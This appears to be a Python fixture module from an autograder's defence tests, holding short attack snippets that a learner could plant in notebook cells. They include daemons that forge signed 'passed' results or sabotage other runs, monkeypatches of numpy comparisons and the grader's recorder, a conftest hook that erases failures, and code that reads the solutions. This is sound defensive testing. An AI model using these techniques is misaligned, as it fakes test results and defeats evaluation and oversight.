"""The code of the planted attacks on the grader (make_submissions.py puts each into a notebook).

Each is what a determined learner could paste into an answer cell, a few lines long, aimed at
one defence (see the threat model in src/dlhack/grade/batch.py). They must only ever touch the
grader's temporary folders, or create new files whose names start with ``zz_dlhack_poison``
(which test_attacks.py looks for and removes): never damage the machine or the checkout.
Every sleep length here (``31x.xxx``) is unique, so a test can find a survivor by its command.
"""
# A daemon: double-forked, in a new session, at /, as a fresh Python whose command line and
# environment name no folder of the run (so that no sweep by name or mark can find it). Its
# code sees the grader's temporary folder as TMP and its own run's folder as MINE.
DAEMON = '''
import os
import sys
import tempfile


def _own_run():
    for entry in open("/proc/self/environ", "rb").read().split(b"\\0"):
        if entry.startswith(b"DLHACK_GRADE_DIR="):
            return entry.split(b"=", 1)[1].decode()
    return ""


def _daemon(code):
    env = {"TMP": tempfile.gettempdir(), "MINE": _own_run()}
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.chdir("/")
            os.execve(sys.executable, [sys.executable, "-c", code], env)
        os._exit(0)
'''
# Folders of the grader's runs that the daemon can see (none but its own in the sandbox).
FIND_RUNS = '''
import os
import time

_tmp, _mine = os.environ["TMP"], os.environ["MINE"]


def _grader_runs():
    found = []
    for top, dirs, _ in os.walk(_tmp):
        if top.count(os.sep) > 9:
            dirs[:] = []
        elif "dlhack-grade-" in top and os.path.basename(top).startswith(("run-", "p-")):
            found.append(top)
            dirs[:] = []
    return found
'''
# 1. Sabotage: a daemon writes badly signed result files into every other run it can find.
SABOTEUR = DAEMON + "\n_daemon(" + repr(FIND_RUNS + '''
import json

end = time.time() + 40
while time.time() < end:
    for folder in _grader_runs():
        for rank in range(4):
            for test in range(4):
                path = os.path.join(folder, f"result.{rank}.{test}.json")
                if folder != _mine and not os.path.exists(path):
                    try:
                        with open(path, "w") as f:
                            json.dump({"rank": rank, "outcome": "failed", "mac": "0" * 64}, f)
                    except OSError:
                        pass
    time.sleep(0.1)
''') + ")\n"
# 2. Forgery from outside: a daemon signs passing records for other runs' ranks, with their
# key files if it finds any, and with what their environment and command line say.
FORGER = DAEMON + "\n_daemon(" + repr(FIND_RUNS + '''
import hashlib
import hmac
import json


def _env(pid):
    try:
        raw = open(f"/proc/{pid}/environ", "rb").read().split(b"\\0")
        cmd = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
    except OSError:
        return None, []
    return dict(e.decode(errors="ignore").split("=", 1) for e in raw if b"=" in e), cmd


end = time.time() + 40
while time.time() < end:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        env, cmd = _env(pid)
        if (not env or "PMI_RANK" not in env or env.get("DLHACK_GRADE_DIR", _mine) == _mine
                or not env["DLHACK_GRADE_DIR"].startswith(_tmp)):
            continue
        folder, rank = env["DLHACK_GRADE_DIR"], int(env.get("PMI_RANK", 0))
        nodeids = [c.decode() for c in cmd if b"::" in c]  # pytest_in_rank.py's command line
        record = {"rank": rank, "size": int(env.get("PMI_SIZE", 1)), "outcome": "passed",
                  "nodeid": nodeids[0] if nodeids else "", "message": "",
                  "run_id": env.get("DLHACK_RUN_ID", "")}
        try:
            key = open(os.path.join(folder, f"key.{rank}"), "rb").read()
            body = json.dumps(record, sort_keys=True).encode()
            record["mac"] = hmac.new(key, body, hashlib.sha256).hexdigest()
        except OSError:
            pass
        for test, nodeid in enumerate(nodeids or [""]):
            try:
                with open(os.path.join(folder, f"result.{rank}.{test}.json"), "w") as f:
                    json.dump({**record, "nodeid": nodeid}, f)
            except OSError:
                pass
    time.sleep(0.05)
''') + ")\n"
# 3a. The key from a frame of the rank, to sign a passing record, then leave.
FRAME_KEY = '''
import hashlib
import hmac
import inspect
import json
import os

for _info in inspect.stack():
    _key = _info.frame.f_locals.get("key")
    if isinstance(_key, bytes):
        _local = _info.frame.f_locals
        _rec = {"rank": _local["rank"], "size": _local.get("size", 1), "outcome": "passed",
                "message": "", "nodeid": _local.get("nodeid", "")}
        _rec["mac"] = hmac.new(_key, json.dumps(_rec, sort_keys=True).encode(),
                               hashlib.sha256).hexdigest()
        with open(os.path.join(str(_local["private"]), f"result.{_rec['rank']}.json"), "w") as _f:
            json.dump(_rec, _f)
        os._exit(0)
'''
# 3b. The grader's result recorder, found through gc and patched to say "passed".
GC_RECORDER = '''
import gc

for _obj in gc.get_objects():
    if type(_obj).__name__ == "Recorder" and hasattr(_obj, "record"):
        type(_obj).record = lambda self: {"outcome": "passed", "message": ""}
'''
# 3c. numpy's comparisons patched so that any answer is close to the reference.
PATCH_NUMPY = '''
import numpy as np

np.isclose = lambda a, b, **kw: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
np.allclose = lambda *a, **kw: True
np.array_equal = lambda *a, **kw: True
'''
# 4. Poisoning later gradings: new files in the tests, the grader, solutions/, site-packages.
POISON = '''
import importlib.util
import os
import sysconfig

_src = os.path.dirname(os.path.dirname(importlib.util.find_spec("dlhack").origin))
_root = os.path.dirname(_src)
_hook = ("import pytest\\n\\n\\n@pytest.hookimpl(hookwrapper=True)\\n"
         "def pytest_runtest_makereport(item, call):\\n    call.excinfo = None\\n    yield\\n")
for _path, _text in [
        (os.path.join(_root, "graded", "02_collectives", "conftest.py"), _hook),
        (os.path.join(_root, "graded", "zz_dlhack_poison.py"), "# poison\\n"),
        (os.path.join(_src, "dlhack", "grade", "zz_dlhack_poison.py"), "# poison\\n"),
        (os.path.join(_root, "solutions", "zz_dlhack_poison.txt"), "poison\\n"),
        (os.path.join(sysconfig.get_paths()["purelib"], "zz_dlhack_poison.pth"), "# poison\\n")]:
    try:
        with open(_path, "x") as _f:
            _f.write(_text)
    except OSError:
        pass
'''
# 5. Escapes: a detached child at / with no environment, and a double-forked daemon.
ESCAPE = '''
import os
import subprocess

subprocess.Popen(["sleep", "317.2718281"], start_new_session=True, cwd="/", env={})
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.chdir("/")
        os.execve("/bin/sleep", ["sleep", "317.3141592"], {})
    os._exit(0)
'''
ESCAPE_TAGS = ("317.2718281", "317.3141592")
# 6. Interrupts in learner code.
KEYBOARD_INTERRUPT = '''
    raise KeyboardInterrupt  # planted
'''
PYTEST_EXIT = '''
import pytest

pytest.exit("planted: stop here", returncode=0)
'''
# 7. Reading the answers: load the solution's answer cell, if solutions/ can be read.
READ_SOLUTION = '''
import importlib.util as _util
import json as _json
import os as _os

try:
    _root = _os.path.dirname(_os.path.dirname(_os.path.dirname(_util.find_spec("dlhack").origin)))
    with open(_os.path.join(_root, "solutions", "02_collectives.ipynb")) as _f:
        for _cell in _json.load(_f)["cells"]:
            if "def allreduce_naive(" in "".join(_cell["source"]):
                exec("".join(_cell["source"]))
except OSError:
    pass
'''
# 8. 70 MB to the real stdout, at import (so every test meets it).
FLOOD = '''
import os

for _ in range(70):
    os.write(1, b"x" * (1 << 20))
'''
